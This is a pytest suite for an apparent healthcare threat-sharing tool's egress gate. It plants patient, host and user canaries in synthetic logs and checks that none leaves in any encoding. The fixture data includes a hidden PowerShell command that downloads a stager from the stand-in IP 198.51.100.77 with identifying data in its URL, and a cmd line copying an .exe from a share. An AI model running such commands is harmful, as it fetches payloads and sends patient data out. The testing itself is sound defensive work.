"""The egress gate: canaries planted in the scenario's logs never leave, on any path, in any encoding.

Five canaries — an MRN, a patient's family name, an internal host FQDN, a user name and an internal
address — are planted in a Suricata HTTP URL, a Sysmon command line, an HL7 PID segment and a FHIR
AuditEvent. After `ingest` and `detect`, every egress path the gate knows (`PATHS`: a new path
without a producer here fails) is made to release what it would send, and everything it lets out —
and what a peer's node shows of it — is searched for every canary, also URL-, base64- (every offset),
hex- and `\\u`-encoded. The search is written here, independent of the leak checker it tests.
"""

from __future__ import annotations

import ast
import base64
import json
import re
import shutil
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
import stix2.v21
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from healthswarm.cli.main import app
from healthswarm.demo import ECOSYSTEM, LOGS, RULES
from healthswarm.model import Alert, AttackRef
from healthswarm.share import service
from healthswarm.share.egress import AUDIT, PATHS, Candidate, EgressGate, Refused, Released, Selection
from healthswarm.share.leakcheck import LeakChecker
from healthswarm.share.sanitise import policy_for
from healthswarm.share.sensitive import Sensitive
from healthswarm.store import Store
from healthswarm.swarm.derive import items_from_store
from healthswarm.swarm.service import node_gate, publish, publish_from_store
from healthswarm.swarm.sim import SimNetwork

runner = CliRunner()
SRC = Path(__file__).resolve().parents[1] / "src" / "healthswarm"
ORG = "st-aurelia"
CANARIES = {"mrn": "MRN-884422", "patient": "Okonkwo", "host": "ws-canary-07.ospx.local", "user": "jcanary",
            "address": "10.66.77.88"}
URL = (f"/stager.ps1?mrn={CANARIES['mrn']}&p={CANARIES['patient']}&h={CANARIES['host']}&u={CANARIES['user']}"
       f"&ip={CANARIES['address']}")


def _base64_cores(data: bytes) -> Iterator[str]:
    """The part of base64(prefix + data) that depends on `data` alone, for each of the three alignments."""
    for offset in range(3):
        encoded = base64.b64encode(b"\0" * offset + data).decode()
        start = (offset * 4 + 2) // 3 if offset else 0
        core = encoded[start:((offset + len(data)) // 3) * 4]
        yield core
        yield core.replace("+", "-").replace("/", "_")


def encodings(value: str) -> dict[str, str]:
    """Every form of `value` the search looks for, by name (compared case-insensitively but for base64)."""
    forms = {"plain": value, "url": quote(value, safe=""), "url-plus": quote_plus(value),
             "hex": value.encode().hex(), "json-u": "".join(f"\\u{ord(c):04x}" for c in value)}
    forms.update({f"base64-{i}": core for i, core in enumerate(_base64_cores(value.encode()))})
    return forms


def leaks(text: str) -> list[str]:
    found = []
    for name, value in CANARIES.items():
        for encoding, form in encodings(value).items():
            hay, needle = (text, form) if encoding.startswith("base64") else (text.lower(), form.lower())
            if needle in hay or (encoding == "plain" and json.dumps(value)[1:-1].lower() in text.lower()):
                found.append(f"{name}/{encoding}")
    return found


def _plant(folder: Path) -> None:
    """The demo's logs with the canaries planted in four formats."""
    eve = folder / "suricata-eve.json"
    lines = eve.read_text().splitlines()
    first = next(i for i, line in enumerate(lines) if '"event_type": "alert"' in line and '"http"' in line)
    record = json.loads(lines[first])
    record["http"] = {"hostname": "update.vendor-cdn.example", "url": URL, "http_method": "GET",
                      "http_user_agent": f"Mozilla/5.0 ({CANARIES['host']}; {CANARIES['user']})"}
    lines[first] = json.dumps(record)
    eve.write_text("\n".join(lines) + "\n")
    sysmon = folder / "windows-sysmon.json"
    lines = sysmon.read_text().splitlines()
    record = json.loads(lines[0])
    data = record["Event"]["EventData"]
    data["CommandLine"] = f"powershell.exe -nop -w hidden -c iwr http://198.51.100.77{URL} -OutFile C:\\Users\\" \
                          f"{CANARIES['user']}\\AppData\\x.ps1"
    data["User"] = f"STA\\{CANARIES['user']}"
    lines[0] = json.dumps(record)
    sysmon.write_text("\n".join(lines) + "\n")
    with (folder / "hl7-adt.hl7").open("a") as handle:
        handle.write(f"MSH|^~\\&|ORBIS|STA|EPIC|STA|20261127081000+0000||ADT^A01^ADT_A01|STA199999|P|2.5.1\r"
                     f"EVN|A01|20261127081000\rPID|1||{CANARIES['mrn']}^^^STA^MR||{CANARIES['patient']}^Tobi||"
                     f"19700101|M\rPV1|1|I|ICU^02^A^STA\r\n")
    with (folder / "ehr-audit.ndjson").open("a") as handle:
        handle.write(json.dumps({
            "resourceType": "AuditEvent", "id": "ae-canary", "action": "R", "recorded": "2026-11-27T08:12:00.000Z",
            "type": {"system": "http://terminology.hl7.org/CodeSystem/audit-event-type", "code": "rest"},
            "outcome": "0",
            "agent": [{"who": {"identifier": {"value": CANARIES["user"]}, "display": CANARIES["user"]},
                       "requestor": True, "network": {"address": CANARIES["address"], "type": "2"}}],
            "source": {"observer": {"display": CANARIES["host"]}},
            "entity": [{"what": {"reference": "Patient/884422", "display": f"{CANARIES['patient']}, Tobi"},
                        "name": f"{CANARIES['patient']}, Tobi"}]}) + "\n")


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ws = tmp_path_factory.mktemp("egress")
    logs = ws / "logs"
    shutil.copytree(LOGS, logs)
    _plant(logs)
    for args in (["inventory", "load", str(ECOSYSTEM)], ["ingest", str(logs)], ["detect", "-r", str(RULES)]):
        result = runner.invoke(app, ["-w", str(ws), *args])
        assert result.exit_code == 0, result.output
    return ws


def _store(ws: Path) -> Store:
    return Store.open(f"sqlite:///{ws / 'healthswarm.db'}")


def _released(workspace: Path, path: str) -> list[Any]:
    """What `path` lets out of the canary workspace now (and, for gossip, what a peer's node then shows)."""
    store = _store(workspace)
    policy = policy_for("amber", "sector")
    selection = service.select_export(store, ORG)
    if path == "stix":
        return [service.export_stix(store, workspace, ORG, policy, selection)[0].payload]
    if path == "misp":
        feed = workspace / "misp-feed"
        service.export_misp(store, workspace, ORG, policy, selection, feed)
        return [p.read_text() for p in sorted(feed.iterdir())]
    if path == "taxii":
        return [service.gate(store, workspace, ORG).taxii(policy, selection).payload]
    if path == "report":
        out = []
        for ident in service.open_incident_ids(store):
            try:
                out.append(service.report_for_peers(store, workspace, ORG, policy, ident).payload)
            except Refused as refused:   # a refusal is no leak; it must not carry the value either
                out.append(str(refused) + json.dumps([h.as_dict() for h in refused.hits]))
        return out
    if path == "gossip":
        net = SimNetwork(seed=3)
        here, peer = net.add(ORG), net.add("northfield")
        net.send(peer.join([ORG], net.now), "northfield")
        ids = publish_from_store(store, here, workspace / "node", ORG, net.now)
        net.run(20, until=lambda: set(ids) <= set(peer.items))
        assert ids and set(ids) <= set(peer.items), "gossip must still carry the public indicators"
        return [[i.raw for i in here.items.values()], peer.status(net.now), (workspace / "node/egress/audit.jsonl")
                .read_text()]
    raise AssertionError(f"no canary producer for egress path {path!r}: add one here")


def test_the_canaries_are_in_the_data_and_would_leak_without_the_gate(workspace: Path) -> None:
    """Not vacuous: the stored alerts and the swarm's candidates hold the canaries before the gate."""
    store = _store(workspace)
    known = service.sensitive_values(store, ORG)
    candidates = json.dumps(items_from_store(store, ORG, known))
    assert {"mrn/plain", "patient/plain", "host/plain", "user/plain", "address/plain"} <= set(leaks(candidates))
    assert {CANARIES["patient"], CANARIES["mrn"]} <= known.patients and CANARIES["user"] in known.users


@pytest.mark.parametrize("path", sorted(PATHS))
def test_no_canary_leaves_on_any_path_in_any_encoding(workspace: Path, path: str) -> None:
    text = json.dumps(_released(workspace, path))
    assert leaks(text) == [], f"{path} leaks {leaks(text)}"


def test_a_name_the_inventory_does_not_know_protects_the_whole_inventory(workspace: Path) -> None:
    """A node named otherwise than its organisation: its gate must still know the inventory's hosts."""
    store = _store(workspace)
    own = service.sensitive_values(store, ORG)
    stranger = service.sensitive_values(store, "not-an-organisation-of-the-inventory")
    assert own.assets and own.assets <= stranger.assets and own.hosts <= stranger.hosts


def test_preview_says_what_would_leave_and_what_was_refused(workspace: Path) -> None:
    result = runner.invoke(app, ["-w", str(workspace), "share", "preview", "--format", "json"])
    assert result.exit_code == 0, result.output
    rows = {r["path"]: r for r in json.loads(result.stdout)}
    assert set(rows) == set(PATHS)
    assert rows["gossip"]["released"] > 0 and rows["gossip"]["removed"].get("url-query", 0) > 0
    assert rows["stix"]["released"] == 1 and rows["stix"]["removed"]
    assert leaks(result.stdout) == []
    table = runner.invoke(app, ["-w", str(workspace), "share", "preview", "--path", "gossip"])
    assert table.exit_code == 0 and "would leave" in table.output and "URL query strings cut" in table.output


def test_leak_check_flags_an_inventory_fqdn_in_free_text_and_a_patient_name(workspace: Path, tmp_path: Path) -> None:
    for text in ("ticket: the beacon came from sta-ws-03.st-aurelia.local at noon",
                 "call about patient okonkwo tomorrow", f"x={base64.b64encode(b'ws-canary-07.ospx.local').decode()}",
                 "uplink 10.66.77.88 seen"):
        note = tmp_path / "note.txt"
        note.write_text(text)
        result = runner.invoke(app, ["-w", str(workspace), "share", "leak-check", str(note)])
        assert result.exit_code == 1, (text, result.output)
    note.write_text("the C2 at 198.51.100.77 used T1071.001")
    assert runner.invoke(app, ["-w", str(workspace), "share", "leak-check", str(note)]).exit_code == 0


def test_every_outbound_signer_and_transport_is_called_from_the_gate_alone() -> None:
    """Bypass is structurally hard: outside `share/egress.py` no module of ours calls a signer, and the
    transports take only what the gate released (`Released`, made by the gate alone)."""
    signers = {"sign_document", "sign_item"}
    offenders = []
    for source in SRC.rglob("*.py"):
        rel = source.relative_to(SRC).as_posix()
        for node in ast.walk(ast.parse(source.read_text(), rel)):
            if isinstance(node, ast.Call):
                name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
                if name in signers and rel != "share/egress.py":
                    offenders.append(f"{rel}:{node.lineno} calls {name}")
                receiver = ast.unparse(node.func.value) if isinstance(node.func, ast.Attribute) else ""
                if name == "sign" and receiver not in {"np", "numpy"} and rel not in {
                        "share/signing.py", "swarm/envelope.py", "security/testca.py"}:
                    offenders.append(f"{rel}:{node.lineno} signs")
    assert offenders == []
    with pytest.raises(TypeError, match="egress gate only"):
        Released("gossip", "swarm", {}, 1, "k", {}, "d")
    net = SimNetwork()
    node = net.add("a")
    with pytest.raises(TypeError):
        node.publish({"kind": "indicator"})  # type: ignore[arg-type]


def test_a_node_refuses_a_release_of_another_path_or_node() -> None:
    net = SimNetwork()
    a, b = net.add("a"), net.add("b")
    released, _ = node_gate(b, Sensitive()).gossip([Candidate("technique", {"technique": "T1071", "confidence": 60})],
                                                  node="b", ttl=3600, now=net.now)
    with pytest.raises(ValueError, match="another node"):
        a.publish(released[0])
    items, _refused = publish(b, node_gate(b, Sensitive()), [Candidate("technique", {"technique": "T1071"})], net.now)
    assert len(items) == 1


def test_a_refutation_shared_as_benign_evidence_goes_through_the_gate() -> None:
    """A node's `contradict` hook (swarm liars' defence) publishes a `benign` item: through the gate, so an internal
    address or a known patient id is refused like any other gossip, and a public domain leaves signed."""
    net = SimNetwork()
    net.add("a")
    net.add("b")
    with pytest.raises(ValueError, match="refused the benign item"):
        net.publish("a", "benign", {"type": "ip", "value": "10.10.1.103"})
    known = Sensitive()
    known.patients.add("PAT-4711")
    released, refused = node_gate(net.nodes["a"], known).gossip(
        [Candidate("benign", {"type": "domain", "value": "pat-4711.example.org"})], node="a", ttl=3600, now=net.now)
    assert released == [] and refused
    item = net.publish("a", "benign", {"type": "domain", "value": "cdn.example.org"})
    assert item.raw["kind"] == "benign"


# -- every field kind, every path: a property over the gate itself ----------------------------------
FIELDS: dict[str, Callable[[str], dict[str, Any]]] = {
    "url": lambda v: {"url.original": f"https://cdn.example/a/{v}/x.js?next={v}"},
    "command line": lambda v: {"process.command_line": f"cmd.exe /c copy \\\\{v}\\share\\x.exe C:\\tmp"},
    "user agent": lambda v: {"user_agent.original": f"Mozilla/5.0 (Windows NT 10.0; {v})"},
    "file path": lambda v: {"file.path": f"C:\\Users\\{v}\\Downloads\\invoice.pdf.exe"},
    "hl7": lambda v: {"hl7.message": f"PID|1||{v}^^^STA^MR||{v}^Anna"},
    "fhir": lambda v: {"fhir.entity.display": f"Patient {v}", "message": f"read Patient/{v}"},
    "dicom ae title": lambda v: {"dicom.calling_ae": v.upper()[:16], "message": f"C-MOVE by {v}"},
}
KINDS = ("user", "host", "patient")


def test_the_signature_is_not_free_text() -> None:
    """A signature's random nonce may decode to text shaped like a patient id (it did, once in CI): the signature
    is the gate's own structure, never searched for shapes — while a known value hidden anywhere is still found."""
    nonce = base64.b64encode(b"MRN 4711-0815 !").decode()
    signed = {"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "identity", "id": "identity--1", "name": "St. Aurelia",
         "x_healthswarm_signature": {"key": "k1", "nonce": nonce, "value": "c2ln"}}]}
    assert LeakChecker(Sensitive()).check(signed) == []
    known = Sensitive()
    known.patients.add("PAT-4711")
    signed["objects"][0]["x_healthswarm_signature"]["nonce"] = "PAT-4711"
    assert [h.kind for h in LeakChecker(known).check(signed)] == ["patient"]


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-", min_size=6, max_size=14)
       .filter(lambda v: v[0].isalpha() and v[-1].isalnum()),
       kind=st.sampled_from(KINDS), field=st.sampled_from(sorted(FIELDS)),
       path=st.sampled_from(sorted(PATHS)))
def test_a_known_value_in_any_field_never_leaves(tmp_path: Path, value: str, kind: str, field: str,
                                                 path: str) -> None:
    known = Sensitive()
    getattr(known, {"user": "users", "host": "hosts", "patient": "patients"}[kind]).add(value)
    gate = EgressGate.in_workspace(tmp_path, ORG, known)
    alert = Alert("sigma", "r1", f"suspicious activity {value}", "high", datetime(2026, 11, 27, 8, tzinfo=UTC),
                  techniques=(AttackRef("T1059.001"),),
        details={**FIELDS[field](value), "destination.ip": "198.51.100.77"}, description=f"seen for {value}")
    policy = policy_for("amber", "sector")
    selection = Selection(alerts=[alert], incidents=[{"id": "INC-1", "title": f"incident of {value}",
                                                      "first_seen": "2026-11-27T08:00:00+00:00",
                                                      "last_seen": "2026-11-27T09:00:00+00:00", "alerts": 1,
                                                      "severity": 4, "state": "new", "stage": "execution"}])
    try:
        if path == "gossip":
            payloads = [r.payload for r in gate.gossip([Candidate("indicator", {"type": "url", "value": v})
                                                        for v in FIELDS["url"](value).values()]
                                                       + [Candidate("risk", {"vendor": value, "confidence": 70})],
                                                       node=ORG, ttl=3600)[0]]
        elif path == "report":
            payloads = [gate.report(policy, selection).payload]
        elif path == "misp":
            payloads = [gate.misp(policy, selection).payload]
        else:
            payloads = [getattr(gate, path)(policy, selection)]
            payloads = [p[0].payload if isinstance(p, tuple) else p.payload for p in payloads]
    except Refused as refused:
        payloads = [str(refused), [h.as_dict() for h in refused.hits]]
    text = json.dumps(payloads)
    # the format's own words (STIX object types, as types and id prefixes) are no one's data: a user called
    # "rved-d" is not leaked by "observed-data" (hypothesis found that the gate refused every such bundle)
    words = re.compile("|".join(sorted(map(re.escape, {*stix2.v21.OBJ_MAP, *stix2.v21.OBJ_MAP_OBSERVABLE}),
                                       key=len, reverse=True)))
    for encoding, form in encodings(value).items():
        hay, needle = (text, form) if encoding.startswith("base64") else (words.sub(" ", text.lower()), form.lower())
        assert needle not in hay, f"{kind} in {field} leaks on {path} ({encoding})"
    assert LeakChecker(known).check(json.loads(text)) == []


@pytest.mark.parametrize("user", ["rved-d", "ttack-patt", "indicator"])
def test_a_user_named_like_a_stix_type_is_still_shared_about_and_never_leaves(tmp_path: Path, user: str) -> None:
    known = Sensitive()
    known.users.add(user)
    gate = EgressGate.in_workspace(tmp_path, ORG, known)
    alert = Alert("sigma", "r1", f"suspicious activity {user}", "high", datetime(2026, 11, 27, 8, tzinfo=UTC),
                  techniques=(AttackRef("T1059.001"),),
                  details={"user.name": user, "destination.ip": "198.51.100.77"}, description=f"seen for {user}")
    selection = Selection(alerts=[alert], incidents=[{"id": "INC-1", "title": f"incident of {user}",
                                                      "first_seen": "2026-11-27T08:00:00+00:00",
                                                      "last_seen": "2026-11-27T09:00:00+00:00", "alerts": 1,
                                                      "severity": 4, "state": "new", "stage": "execution"}])
    released = gate.report(policy_for("amber", "sector"), selection)  # Refused before: "rved-d" in observed-data
    payload = json.dumps(released.payload)
    assert "198.51.100.77" in payload
    assert f'"{user}' not in payload.lower() and f" {user}" not in payload.lower()
    assert LeakChecker(known).check(json.loads(payload)) == []


def test_publishing_some_incidents_keeps_the_others_evidence_in(workspace: Path) -> None:
    """The agent publishes the incidents its policy made due: a held or vetoed incident's indicators stay."""
    store = _store(workspace)
    known = service.sensitive_values(store, ORG)
    everything = {json.dumps(c, sort_keys=True) for c in items_from_store(store, ORG, known)}
    per_incident = {i: {json.dumps(c, sort_keys=True) for c in items_from_store(store, ORG, known, incidents={i})}
                    for i in service.open_incident_ids(store)}
    assert all(items <= everything for items in per_incident.values())
    assert any(items < everything for items in per_incident.values())
    assert items_from_store(store, ORG, known, incidents=set()) == []


def test_a_real_nodes_refutations_leave_through_the_gate_without_a_canary(workspace: Path, tmp_path: Path) -> None:
    """A real node's refuter (swarm/refute.py) publishes each refutation as a benign item through the gate
    (runtime `contradict`): a liar's warnings about values the organisation vouches for by mistake (they hold the
    patient's MRN or name) or that are its own (an internal address, an internal host name) are refuted, and
    none of those refutations leaves; one about a public domain it vouches for does."""
    from healthswarm.share.signing import TrustStore, load_or_create_keys, sign_item
    from healthswarm.swarm.config import NodeConfig
    from healthswarm.swarm.envelope import Sender, seal
    from healthswarm.swarm.runtime import NodeRuntime

    ws = tmp_path / "ws"
    ws.mkdir()
    for part in workspace.glob("healthswarm.db*"):   # the canary scenario's store (with its write-ahead log)
        shutil.copy(part, ws / part.name)
    (ws / "swarm").mkdir()
    vouched = [f"domain:{CANARIES['mrn'].lower()}.example", f"domain:{CANARIES['patient'].lower()}-care.example",
               "domain:cdn.vendor.example"]
    (ws / "swarm" / "benign").write_text("\n".join(vouched) + "\n")
    liar = load_or_create_keys(tmp_path / "liar")
    TrustStore.in_workspace(ws).trust("liar", liar.public_text, group="consortium")
    runtime = NodeRuntime(NodeConfig(workspace=ws, name=ORG, listen="127.0.0.1:1"))
    now = datetime.now(UTC).timestamp()
    claims = [v.split(":", 1) for v in vouched] + [["ipv4", CANARIES["address"]], ["domain", CANARIES["host"]]]
    items = [sign_item("indicator", {"type": kind, "value": value, "confidence": 90}, "liar", liar, now, 3600)
             for kind, value in claims]
    frame = seal("push", {"items": items, "have": []}, Sender("liar", liar.key_id, "127.0.0.1:2", 0), liar.private,
                 now)
    runtime.node.receive(frame, now)
    assert sum(runtime.evidence.counts.values()) == len(claims)   # every claim refuted, none accepted
    assert runtime.node.drops.reasons["refuted"] == len(claims)
    benign = [i.raw for i in runtime.node.items.values() if i.raw["kind"] == "benign"]
    assert [b["data"] for b in benign] == [{"type": "domain", "value": "cdn.vendor.example"}]
    audit = (ws / AUDIT).read_text()
    assert audit.count('"outcome": "refused"') == len(claims) - 1
    assert leaks(json.dumps(benign) + audit + json.dumps(runtime.status(now))) == []
